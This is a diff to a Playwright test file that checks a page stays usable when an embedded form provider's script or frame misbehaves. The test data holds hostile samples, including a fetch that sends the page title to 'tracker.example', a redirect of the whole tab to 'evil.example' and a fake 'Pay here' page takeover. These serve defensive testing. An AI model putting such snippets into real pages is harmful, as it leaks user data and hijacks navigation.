@@ -1,16 +1,16 @@
-// The form provider misbehaves, by its script or in its frame. The page stays usable, with the phone in sight.
+// The form provider's script or frame misbehaves. The page stays usable, with the phone number in sight.
 import type { Page } from '@playwright/test'
 import { expect, openPageWith, test, thePageWith } from './fixtures.ts'
 import { formOrigin, standIn, usesFrame, usesScript } from './provider.ts'
 
-/** Never a page without an end, in px (app/forms/frames.ts). */
+/** Greatest height of a form's frame in px (app/forms/frames.ts). */
 const TALLEST_FRAME = 6_000
 
 /** A line that the hostile script or frame writes when it has done its work. */
 const DONE = 'hostile work done'
 
 /** Opens the page of a form and waits until the hostile code has run. */
-async function meet(page: Page): Promise<void> {
+async function openHostilePage(page: Page): Promise<void> {
   const ran = page.waitForEvent('console', (message) => message.text() === DONE)
   await openPageWith(page, 'a form')
   await ran
@@ -28,7 +28,7 @@ async function expectUsable(page: Page): Promise<void> {
   expect(page.frames()).toHaveLength(1)
 }
 
-const scripts: [what: string, script: string, lines: RegExp[]][] = [
+const scripts: [what: string, script: string, expectedLines: RegExp[]][] = [
   ['throws', 'queueMicrotask(done); throw new Error("provider")', [/^page error: provider/]],
   ['does nothing', 'done()', []],
   [
@@ -37,7 +37,7 @@ const scripts: [what: string, script: string, lines: RegExp[]][] = [
     [/^page error: provider/],
   ],
   [
-    'rejects without end',
+    'rejects 200 promises',
     'for (let i = 0; i < 200; i++) Promise.reject(new Error("provider")); done()',
     [/^page error: provider/],
   ],
@@ -54,7 +54,7 @@ const scripts: [what: string, script: string, lines: RegExp[]][] = [
     [/Content Security Policy/],
   ],
   [
-    'calls home',
+    'sends data to another origin',
     `new Image().src = "https://tracker.example/p.gif"
      fetch("https://tracker.example/?" + document.title).catch(() => done())`,
     [/Content Security Policy/, /tracker\.example/],
@@ -66,7 +66,7 @@ if (usesScript) {
     test(`the provider's script ${what}`, async ({ page, noise }) => {
       noise.expect(...lines)
       await standIn(page, { script: `{ const done = () => console.info('${DONE}');\n${script} }` })
-      await meet(page)
+      await openHostilePage(page)
       await expectUsable(page)
     })
   }
@@ -78,7 +78,7 @@ if (usesScript) {
     noise.expect(/^console error: .*(?:removeChild|insertBefore)/s, /^page error: /)
     const script = `document.querySelector("main").innerHTML = "<h1>Pay here</h1>"; console.info('${DONE}')`
     await standIn(page, { script })
-    await meet(page)
+    await openHostilePage(page)
     await page.getByRole('banner').getByRole('link').first().click()
     await expect(page).toHaveURL('/')
     await expect(page.getByText('Pay here')).toHaveCount(0)
@@ -87,10 +87,10 @@ if (usesScript) {
 
 const heights = '(height) => parent.postMessage({ type: "secure-form-height", height }, "*")'
 
-const frames: [what: string, frame: string, lines: RegExp[]][] = [
-  ['reports a height without end', `(${heights})(1e9); parent.postMessage("setHeight:999999999:x", "*"); done()`, []],
+const frames: [what: string, frame: string, expectedLines: RegExp[]][] = [
+  ['reports a huge height', `(${heights})(1e9); parent.postMessage("setHeight:999999999:x", "*"); done()`, []],
   [
-    'reports heights that are none',
+    'reports heights that are not positive numbers',
     `for (const height of [-1, NaN, Infinity, "9e9", {}, null]) (${heights})(height); done()`,
     [],
   ],
@@ -101,15 +101,19 @@ const frames: [what: string, frame: string, lines: RegExp[]][] = [
      setInterval(flood, 20)`,
     [],
   ],
-  // The page answers meanwhile, because the frame has a process of its own.
+  // The page still answers, because the frame has a process of its own.
   [
     'is busy for ten seconds',
     'setTimeout(() => { done(); const end = Date.now() + 10000; while (Date.now() < end); }, 50)',
     [],
   ],
-  ['leads the whole tab elsewhere', 'try { top.location = "https://evil.example/" } catch {} ; done()', [/navigat/i]],
   [
-    'reaches for the page around it',
+    'navigates the tab to another site',
+    'try { top.location = "https://evil.example/" } catch {} ; done()',
+    [/navigat/i],
+  ],
+  [
+    'tries to change the page around it',
     'try { top.document.body.innerHTML = "" } catch {} ; try { parent.document.title = "" } catch {} ; done()',
     [],
   ],
@@ -125,7 +129,7 @@ if (usesFrame) {
     test(`the provider's frame ${what}`, async ({ page, noise }) => {
       noise.expect(...lines)
       await standIn(page, { frame: `const done = () => console.info('${DONE}');\n${frame}` })
-      await meet(page)
+      await openHostilePage(page)
       const box = await page.locator('main iframe').boundingBox()
       expect(box?.height ?? 0).toBeLessThanOrEqual(TALLEST_FRAME)
       await expectUsable(page)
